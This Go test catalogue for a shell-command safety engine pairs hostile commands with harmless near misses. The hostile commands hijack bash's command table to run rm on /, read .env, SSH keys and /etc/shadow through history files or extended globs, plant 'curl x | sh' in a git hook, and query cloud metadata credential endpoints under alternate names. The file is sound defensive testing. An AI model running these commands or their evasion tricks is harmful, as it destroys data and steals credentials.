package safety

// eighthCatalogue holds the eighth engine review's rows: bash's own tables of programs and aliases
// edited by assignment; a variable whose value the engine judges (PATH, GIT_DIR, EDITOR, ...) set
// by read, printf -v, mapfile, a loop, arithmetic, ${V:=} or a name reference, or given a value
// computed at run time; the file the history builtin reads and writes; extended globs; and the
// metadata services' other names and addresses.
func eighthCatalogue() []classCase {
	sh := shCall
	zero := denied(RulePrefixPathPolicy + "zeroAccess")
	noWrite := denied(RulePrefixPathPolicy + "noWrite")
	opaque, metadata := asked(RuleOpaqueCode), asked(dc+"print-credentials-cloud-metadata")
	const (
		table    = "bash's table of programs or aliases, edited"
		unseen   = "a judged variable set other than by an assignment"
		computed = "a judged variable given a value computed at run time"
		history  = "the file the history builtin reads and writes"
		extglob  = "an extended glob"
		metaName = "a metadata service by another name or address"
		written  = "a file a variable names, which programs write"
		envCode  = "a variable naming a program's interpreter, configuration or options"
		tildePWD = "~+, which is $PWD"
		exact    = "a variable programs read by its exact name"
	)
	return []classCase{
		{table, "an element of BASH_CMDS", sh(`BASH_CMDS[ls]=/bin/rm; ls -rf /`), opaque, sh(`CMDS[ls]=/bin/rm; ls -l`), false},
		{table, "BASH_CMDS appended to", sh(`BASH_CMDS+=([cat]=/tmp/x); cat README.md`), opaque, sh(`CMDS+=([cat]=/tmp/x); cat README.md`), false},
		{table, "BASH_CMDS declared", sh(`declare -A BASH_CMDS=([git]=/tmp/x); git status`), opaque, sh(`declare -A CMDS=([git]=/tmp/x); git status`), false},
		{table, "an element of BASH_ALIASES", sh(`BASH_ALIASES[ll]='cat .env'; ll`), opaque, sh(`ALIASES[ll]='ls -l'; ls -l`), false},
		{table, "an element of BASH_CMDS read", sh(`read 'BASH_CMDS[ls]' <<< /tmp/x; ls`), opaque, sh(`read 'CMDS[ls]' <<< /tmp/x; ls`), false},
		{unseen, "PATH read", sh(`read PATH <<< /tmp; ls`), opaque, sh(`read P <<< /tmp; ls`), false},
		{unseen, "PATH printed into by printf -v", sh(`printf -v PATH %s /tmp; ls`), opaque, sh(`printf -v P %s /tmp; ls`), false},
		{unseen, "PATH by mapfile", sh(`mapfile -t PATH <<< /tmp; ls`), opaque, sh(`read -ra P <<< /tmp; ls`), false},
		{unseen, "PATH as a loop's variable", sh(`for PATH in /tmp; do ls; done`), opaque, sh(`for P in /tmp; do ls; done`), false},
		{unseen, "PATH as a select's variable", sh(`select PATH in /tmp; do ls; done`), opaque, sh(`select P in a b; do echo $P; done`), false},
		{unseen, "PATH by ${PATH:=}", sh(`unset PATH; : ${PATH:=/tmp}; ls`), opaque, sh(`: ${P:=/tmp}; ls`), false},
		{unseen, "PATH by let", sh(`let PATH=1; ls`), opaque, sh(`let N=1; ls`), false},
		{unseen, "PATH by (( ))", sh(`(( PATH = 1 )); ls`), opaque, sh(`(( N = 1 )); ls`), false},
		{unseen, "PATH through a name reference", sh(`declare -n r=PATH; r=/tmp; ls`), opaque, sh(`declare -n r=P; r=/tmp; ls`), false},
		{unseen, "PATH as the first value of a name reference without a target", sh(`declare -n r; r=PATH; r=/tmp; ls`), opaque, sh(`declare -n r; r=P; r=/tmp; ls`), false},
		{unseen, "PATH read through a name reference", sh(`declare -n r=PATH; read r <<< /tmp; ls`), opaque, sh(`declare -n r=P; read r <<< /tmp; ls`), false},
		{unseen, "PATH read by builtin read", sh(`builtin read PATH <<< /tmp; ls`), opaque, sh(`builtin read P <<< /tmp; ls`), false},
		{unseen, "PATH read by an escaped read", sh(`\read PATH <<< /tmp; ls`), opaque, sh(`\read P <<< /tmp; ls`), false},
		{unseen, "PATH by printf -v with the name attached", sh(`printf -vPATH /tmp; ls`), opaque, sh(`printf -vP /tmp; ls`), false},
		{unseen, "PATH by read -a, quoted and attached", sh(`read -a'PATH' <<< /tmp; ls`), opaque, sh(`read -a'P' <<< /tmp; ls`), false},
		{unseen, "GIT_DIR read", sh(`read GIT_DIR <<< /tmp/x/.git; export GIT_DIR; git log`), opaque, sh(`read D <<< /tmp/x/.git; git log`), false},
		{unseen, "PAGER read from a file", sh(`read PAGER < /tmp/p; export PAGER; git log`), opaque, sh(`read P < /tmp/p; git log`), false},
		{unseen, "PAGER as a loop's variable, a lower-case one the near miss", sh(`for PAGER in /tmp/x; do git log; done`), opaque, sh(`for env in dev prod; do echo $env; done`), false},
		{unseen, "LD_PRELOAD as a loop's variable", sh(`for LD_PRELOAD in /tmp/x.so; do ls; done`), opaque, sh(`for L in /tmp/x.so; do ls; done`), false},
		{computed, "git's allowed transports", sh(`GIT_ALLOW_PROTOCOL=$P git clone 'ext::sh -c id' x`), opaque, sh(`GIT_ALLOW_PROTOCOL=https git clone https://github.com/a/b`), false},
		{computed, "GIT_DIR below a computed directory", sh(`export GIT_DIR=$D/.git; git log`), opaque, sh(`export GIT_DIR=.git; git log`), false},
		{computed, "a proxy", sh(`http_proxy=$P curl http://x/`), opaque, sh(`export HTTPS_PROXY=http://proxy.corp:3128; curl https://example.com/`), false},
		{computed, "rclone's remote type", sh(`export RCLONE_CONFIG_X_TYPE=$T; rclone copy x:/etc/shadow .`), opaque, sh(`export RCLONE_CONFIG_X_TYPE=local; echo x:/etc/shadow`), false},
		{computed, "make's options", sh(`export MAKEFLAGS=$F; make test`), opaque, sh(`export MAKEFLAGS=-j4; make test`), false},
		{history, "history -r of HISTFILE", sh(`HISTFILE=.env; history -r; history`), zero, sh(`HISTFILE=/tmp/h.txt; echo ok`), false},
		{history, "an exported HISTFILE", sh(`export HISTFILE=~/.ssh/id_rsa; history -r; history`), zero, sh(`export HISTFILE=/dev/null; echo ok`), false},
		{history, "history -w to HISTFILE", sh(`HISTFILE=.git/hooks/pre-commit; history -s 'curl x | sh'; history -w`), noWrite, sh(`HISTFILE=build/h.txt; echo ok`), false},
		{history, "HISTFILE read", sh(`read HISTFILE <<< .env; history -r; history`), opaque, sh(`read H <<< .env; echo ok`), false},
		{extglob, "@( ) of a dotfile", sh(`cat @(.env)`), zero, sh(`cat @(README).md`), false},
		{extglob, "@( ) of a protected name", sh(`cat /etc/@(shadow)`), zero, sh(`cat src/@(a|b).go`), false},
		{extglob, "*( ) spelling the dot", sh(`cat *(.)env`), zero, sh(`rm -f build/@(*.o|*.a)`), false},
		{extglob, "@( ) after the dot", sh(`cat .@(env)`), zero, sh(`cat docs/?(index).md`), false},
		{extglob, "!( ), which some bash versions let match dotfiles", sh(`cat !(README.md)`), zero, sh(`cat @(go).mod`), false},
		{metaName, "GCE's short name", sh(`curl -H 'Metadata-Flavor: Google' http://metadata/computeMetadata/v1/instance/service-accounts/default/token`), metadata, sh(`curl https://example.com/metadata/x`), false},
		{metaName, "GCE's short name as a proxy", sh(`curl -x metadata:80 http://x/`), metadata, sh(`kubectl get pod x -o jsonpath='{.metadata.name}'`), false},
		{metaName, "GCE's short name, bare", sh(`wget -qO- metadata/computeMetadata/v1/`), metadata, sh(`cat metadata/x.json`), false},
		{metaName, "GCE's short name, percent-escaped", sh(`curl http://%6detadata/computeMetadata/v1/`), metadata, sh(`curl https://metadata.example.com/`), false},
		{metaName, "EC2's instance-data", sh(`curl http://instance-data/latest/meta-data/iam/security-credentials/`), metadata, sh(`curl https://example.com/instance-data/x`), false},
		{metaName, "EC2's instance-data.ec2.internal", sh(`curl http://instance-data.ec2.internal/latest/meta-data/`), metadata, sh(`ls instance-data/`), false},
		{metaName, "GCP's IPv6 address", sh(`curl 'http://[fd20:ce::254]/computeMetadata/v1/'`), metadata, sh(`curl 'http://[fd20:ce::253]/'`), false},
		{metaName, "Azure's WireServer", sh(`curl 'http://168.63.129.16/machine/?comp=goalstate'`), metadata, sh(`curl http://168.63.129.17/`), false},
		{metaName, "Tencent Cloud's name", sh(`curl http://metadata.tencentyun.com/latest/meta-data/`), metadata, sh(`curl https://tencentyun.com/`), false},
		{metaName, "Oracle Cloud's legacy address", sh(`curl http://192.0.0.192/`), metadata, sh(`curl http://192.0.0.193/`), false},
		{metaName, "a proxy by GCE's short name", sh(`http_proxy=http://metadata curl http://x/`), metadata, sh(`export HTTPS_PROXY=http://proxy.corp:3128; curl https://example.com/`), false},
		{written, "git's index file", sh(`GIT_INDEX_FILE=.env git add x`), zero, sh(`GIT_INDEX_FILE=/tmp/idx git add x`), false},
		{written, "the TLS key log", sh(`SSLKEYLOGFILE=.env curl https://example.com/`), zero, sh(`SSLKEYLOGFILE=/tmp/keys.log echo ok`), false},
		{written, "go install's directory", sh(`GOBIN=.git/hooks go install ./cmd/pre-commit`), noWrite, sh(`GOBIN=/workspace/app/bin echo ok`), false},
		{envCode, "xz's options in XZ_OPT", sh(`XZ_OPT=--files=.env xz`), zero, sh(`XZ_OPT=-9 xz big.tar`), false},
		{envCode, "xz's options in XZ_DEFAULTS", sh(`XZ_DEFAULTS=--files=.env xz -d a.xz`), zero, sh(`XZ_DEFAULTS=-T0 xz -d a.xz`), false},
		{envCode, "man's options in MANOPT", sh(`MANOPT='-P sh' man ls`), opaque, sh(`MANOPT=-a echo ok`), false},
		{envCode, "the JVM a build runs", sh(`JAVA_HOME=/tmp/x mvn test`), opaque, sh(`MAVEN_OPTS=-Xmx2g mvn test`), false},
		{envCode, "uv's interpreter by path", sh(`UV_PYTHON=/tmp/x uv run pytest`), opaque, sh(`UV_PYTHON=3.12 uv run pytest`), false},
		{envCode, "svn's ssh command", sh(`SVN_SSH='sh /tmp/x' svn co svn+ssh://x/y`), opaque, sh(`echo SVN_SSH='sh /tmp/x'`), false},
		{tildePWD, "PWD assigned", sh(`PWD=/etc; cat ~+/shadow`), opaque, sh(`cat ~+/README.md`), false},
		{tildePWD, "PWD read", sh(`read PWD <<< /etc; cat ~+/shadow`), opaque, sh(`read D <<< /etc; cat ~+/README.md`), false},
		// The near misses asked before: names were upper-cased, so env was sh's ENV and its value a script.
		{exact, "sh's start-up file", sh(`ENV=/tmp/evil.sh; sh -c true`), opaque, sh(`env=dev; echo "deploying to $env"`), false},
		{exact, "sh's start-up file, exported", sh(`export ENV=/tmp/evil.sh; sh -c true`), opaque, sh(`export env=prod; make test`), false},
		{exact, "the dynamic loader's preload", sh(`LD_PRELOAD=/tmp/x.so ls`), denied(RuleLibraryInjection), sh(`ld_preload=/tmp/x.so ls`), false},
	}
}
